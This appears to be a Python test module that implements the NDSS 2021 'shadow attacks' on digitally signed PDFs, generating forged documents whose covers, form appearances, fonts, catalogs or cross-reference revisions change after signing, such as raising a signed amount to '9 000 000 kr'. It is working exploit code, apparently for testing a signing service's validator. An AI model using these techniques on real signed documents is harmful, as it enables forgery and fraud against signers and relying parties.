"""Shadow attacks: the document is prepared before anybody signs; after the signature it shows what lay in its shadow.

Source: Mainka, Mladenov, Rohlmann: Shadow Attacks: Hiding and Replacing Content in Signed PDFs, NDSS 2021, section IV.
"""

from __future__ import annotations

from attack_kinds import Family
from attack_pages import within_the_next
from attack_papers import PREPARED, Hand, Papers, add_amount, filled
from attack_pdf import (
    Editor,
    appended,
    edited,
    last_startxref,
    object_text,
    root_of,
    written_objects,
    xref_table,
)
from attack_saving import page_stream
from signing_house import SECRETARY

SHADOW = Family("shadow")


# hide: something covers the words while people sign, and is taken away afterwards


def _box_number(pdf: bytes) -> int:
    return Editor.on(pdf).page(0)["/Contents"].raw_get(1).idnum


@SHADOW.on_each("hidden_then_signed")
def cover_taken_off_the_page(pdf: bytes) -> bytes:
    def uncover(editor: Editor) -> None:
        contents = editor.page(0)["/Contents"]
        del contents[1]
        editor.update_container(contents)

    return edited(pdf, uncover)


@SHADOW.on_each("hidden_then_signed")
def cover_emptied(pdf: bytes) -> bytes:
    return appended(pdf, {_box_number(pdf): b"<< /Length 0 >>\nstream\n\nendstream"})


@SHADOW.on_each("hidden_then_signed")
def cover_freed(pdf: bytes) -> bytes:
    return appended(pdf, {}, freed={_box_number(pdf): 1})


@SHADOW.on_each("hidden_then_signed")
def cover_is_another_object(pdf: bytes) -> bytes:
    return appended(pdf, {_box_number(pdf): b"null"})


@SHADOW.on_each("hidden_then_signed")
def cover_points_to_what_it_covers(pdf: bytes) -> bytes:
    """Only a table is appended; the number of the cover leads to an object that was there all the time."""
    page = Editor.on(pdf).page(0)
    at = pdf.index(b"%d 0 obj" % page["/Contents"].raw_get(0).idnum)
    return with_rows(pdf, {_box_number(pdf): at})


def with_rows(pdf: bytes, rows: dict[int, int], root: int | None = None) -> bytes:
    """A revision of nothing but a table."""
    at = len(pdf)
    size = 400
    end = f"trailer\n<< /Size {size} /Root {root or root_of(pdf)} 0 R /Prev {last_startxref(pdf)} >>\n"
    return pdf + xref_table(rows) + (end + f"startxref\n{at}\n%%EOF\n").encode()


def signed(papers: Papers, pdf: bytes) -> bytes:
    return papers.house.sign(pdf, *SECRETARY)


@SHADOW.attack("cover of an annotation")
def cover_of_an_annotation_removed(papers: Papers) -> bytes:
    """An annotation covers the words; taking it off the page needs no new object."""

    def cover(editor: Editor) -> None:
        look = editor.add("<< /Type /XObject /Subtype /Form /BBox [0 0 400 40] >>", stream=PREPARED.encode())
        note = editor.add(
            f"<< /Type /Annot /Subtype /Square /F 4 /Rect [56 700 456 740] /AP << /N {look.idnum} 0 R >> >>"
        )
        editor.append(editor.page(0)["/Annots"], note)

    made = signed(papers, edited(papers.original, cover))
    return edited(made, lambda editor: editor.put(editor.page(0), "/Annots", "[]"))


@SHADOW.attack("cover of an annotation")
def cover_of_an_annotation_made_invisible(papers: Papers) -> bytes:
    def cover(editor: Editor) -> None:
        note = editor.add("<< /Type /Annot /Subtype /Square /F 4 /IC [1 1 1] /Rect [56 700 456 740] >>")
        editor.append(editor.page(0)["/Annots"], note)

    made = signed(papers, edited(papers.original, cover))
    return edited(made, lambda editor: editor.put(editor.page(0)["/Annots"][-1], "/F", "2"))


# replace: a form shows one thing while people sign, and another afterwards


@SHADOW.attack("form")
def overlay_of_a_text_field_changed(papers: Papers) -> bytes:
    """The field lies over the words of the page; its appearance changes and its value does not."""
    made = signed(papers, filled(papers.form, "1 000 kr"))

    def overlay(editor: Editor) -> None:
        field = editor.field("Belopp")
        editor.swap(
            field["/AP"].raw_get("/N"),
            "<< /Type /XObject /Subtype /Form /BBox [0 0 200 20] /Resources << >> >>",
            b"1 g 0 0 200 20 re f BT (9 000 000 kr) Tj ET",
        )

    return edited(made, overlay)


@SHADOW.attack("form")
def font_of_a_text_field_replaced(papers: Papers) -> bytes:
    """The letters stay, their shapes are others: the font is a simple object of the form."""

    def font(editor: Editor) -> None:
        add_amount(editor)
        made = editor.add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
        look = editor.field("Belopp")["/AP"]["/N"]
        editor.put(look, "/Resources", f"<< /Font << /F {made.idnum} 0 R >> >>")

    made = signed(papers, filled_with_font(edited(papers.original, font)))

    def replace(editor: Editor) -> None:
        fonts = editor.field("Belopp")["/AP"]["/N"]["/Resources"]["/Font"]
        editor.swap(fonts.raw_get("/F"), "<< /Type /Font /Subtype /Type1 /BaseFont /ZapfDingbats >>")

    return edited(made, replace)


def filled_with_font(pdf: bytes) -> bytes:
    """The amount is filled in under the number of its appearance, so the font stays an object of its own."""

    def fill(editor: Editor) -> None:
        field = editor.field("Belopp")
        look = field["/AP"]["/N"]
        font = look["/Resources"]["/Font"].raw_get("/F").idnum
        editor.put(field, "/V", "(1 000 kr)")
        editor.swap(
            field["/AP"].raw_get("/N"),
            f"<< /Type /XObject /Subtype /Form /BBox [0 0 200 20] /Resources << /Font << /F {font} 0 R >> >> >>",
            b"/Tx BMC BT /F 10 Tf 2 4 Td (1 000 kr) Tj ET EMC",
        )

    return edited(pdf, fill)


@SHADOW.attack("original")
def look_of_an_empty_signature_field_prepared(papers: Papers) -> bytes:
    """What the adjuster's empty field will look like lies ready, unreferenced; then it is switched on."""

    def prepare(editor: Editor) -> None:
        editor.add("<< /Type /XObject /Subtype /Form /BBox [0 0 230 52] /Inventory true >>", stream=b"0 0 230 52 re f")

    made = signed(papers, edited(papers.original, prepare))
    number = next(n for n in range(1, 80) if b"%d 0 obj" % n in made and b"/Inventory true" in object_text(made, n))
    return edited(made, lambda editor: editor.put(editor.field("Justerare"), "/AP", f"<< /N {number} 0 R >>"))


# hide and replace: two documents in one file, told apart by the cross-reference table alone


def prepared(papers: Papers) -> tuple[bytes, int, int]:
    """A signed file that holds other content under the number of the first page's, in no table. Number and offset."""
    number, stream = page_stream(papers.original)
    evil, offsets = written_objects({number: stream}, len(papers.original))
    shadow = papers.original + evil
    # a revision after the hidden object, so that what is signed ends in a table
    made = signed(papers, edited(shadow, lambda editor: editor.add("<< /Type /Inventory >>")))
    return made, number, offsets[number]


@SHADOW.attack("prepared", victims=SECRETARY[:1])
def prepared_object_switched_by_a_row(papers: Papers) -> bytes:
    """Before it is switched, nothing can be said of it: bytes between revisions are not forbidden, and are signed."""
    made, number, offset = prepared(papers)
    return with_rows(made, {number: offset})


@SHADOW.attack("prepared")
def prepared_catalog_switched_by_the_trailer(papers: Papers) -> bytes:
    """A second catalog and page tree lie ready; only the trailer of the update names them."""
    original = papers.original
    _, stream = page_stream(original)
    objects = {
        300: b"<< /Type /Catalog /Pages 301 0 R >>",
        301: b"<< /Type /Pages /Kids [302 0 R] /Count 1 >>",
        302: b"<< /Type /Page /Parent 301 0 R /MediaBox [0 0 595 842] /Contents 303 0 R /Annots [] >>",
        303: stream,
    }
    made = signed(papers, appended(original, objects))
    return with_rows(made, {}, root=300)


@SHADOW.attack("prepared")
def prepared_catalog_keeps_the_form(papers: Papers) -> bytes:
    """The second catalog names the same form, so the signature is still found."""
    original = papers.original
    form = Editor.on(original).root.raw_get("/AcroForm").idnum
    _, stream = page_stream(original)
    objects = {
        300: b"<< /Type /Catalog /Pages 301 0 R /AcroForm %d 0 R >>" % form,
        301: b"<< /Type /Pages /Kids [302 0 R] /Count 1 >>",
        302: b"<< /Type /Page /Parent 301 0 R /MediaBox [0 0 595 842] /Contents 303 0 R /Annots [] >>",
        303: stream,
    }
    made = signed(papers, appended(original, objects))
    return with_rows(made, {}, root=300)


@SHADOW.attack("prepared")
def prepared_revision_switched_by_startxref(papers: Papers) -> bytes:
    """Two tables before the signature; a last startxref leads back to the one that nobody saw."""
    number, stream = page_stream(papers.original)
    shadow = appended(papers.original, {number: stream})
    shadow_at = last_startxref(shadow)
    body, offsets = written_objects({number: _honest_stream(papers.original, number)}, len(shadow))
    end = f"trailer\n<< /Size 100 /Root {root_of(shadow)} 0 R /Prev {shadow_at} >>\n"
    restored = shadow + body + xref_table(offsets) + end.encode()
    restored += b"startxref\n%d\n%%%%EOF\n" % (len(shadow) + len(body))
    made = signed(papers, restored)
    return made + b"startxref\n%d\n%%%%EOF\n" % shadow_at


@SHADOW.attack("prepared")
def prepared_revision_switched_by_a_row(papers: Papers) -> bytes:
    number, stream = page_stream(papers.original)
    shadow = appended(papers.original, {number: stream})
    at = shadow.rindex(b"%d 0 obj" % number)
    made = signed(papers, appended(shadow, {number: _honest_stream(papers.original, number)}))
    return with_rows(made, {number: at})


@SHADOW.attack("prepared", victims=SECRETARY[:1])
def prepared_then_switched_in_the_next_signature(papers: Papers) -> bytes:
    made, number, offset = prepared(papers)
    switched = with_rows(made, {number: offset})
    return papers.house.sign(switched, "Justerare", "Helene Olofsson")


def _honest_stream(pdf: bytes, number: int) -> bytes:
    start = pdf.index(b"%d 0 obj" % number)
    return pdf[start:].split(b"obj\n", 1)[1].split(b"\nendobj", 1)[0]


def _uncovered(editor: Editor) -> None:
    contents = editor.page(0)["/Contents"]
    del contents[1]
    editor.update_container(contents)


@SHADOW.attack("next signature", victims=SECRETARY[:1])
def cover_taken_off_in_the_next_signature(papers: Papers) -> bytes:
    return papers.by_pyhanko(papers.hidden_then_signed, "Justerare", Hand(), change=_uncovered)


@SHADOW.attack("next signature", victims=SECRETARY[:1])
def amount_overwritten_in_the_next_signature_and_its_value_not(papers: Papers) -> bytes:
    def overlay(editor: Editor) -> None:
        editor.swap(
            editor.field("Belopp")["/AP"].raw_get("/N"),
            "<< /Type /XObject /Subtype /Form /BBox [0 0 200 20] /Resources << >> >>",
            b"1 g 0 0 200 20 re f",
        )

    return papers.by_pyhanko(papers.form_signed, "Justerare", Hand(), change=overlay)


def _content_swapped(editor: Editor) -> None:
    editor.swap(editor.page(0).raw_get("/Contents"), "<< >>", b"BT (Avslag) Tj ET")


within_the_next(SHADOW, {"content swapped under its number": _content_swapped})
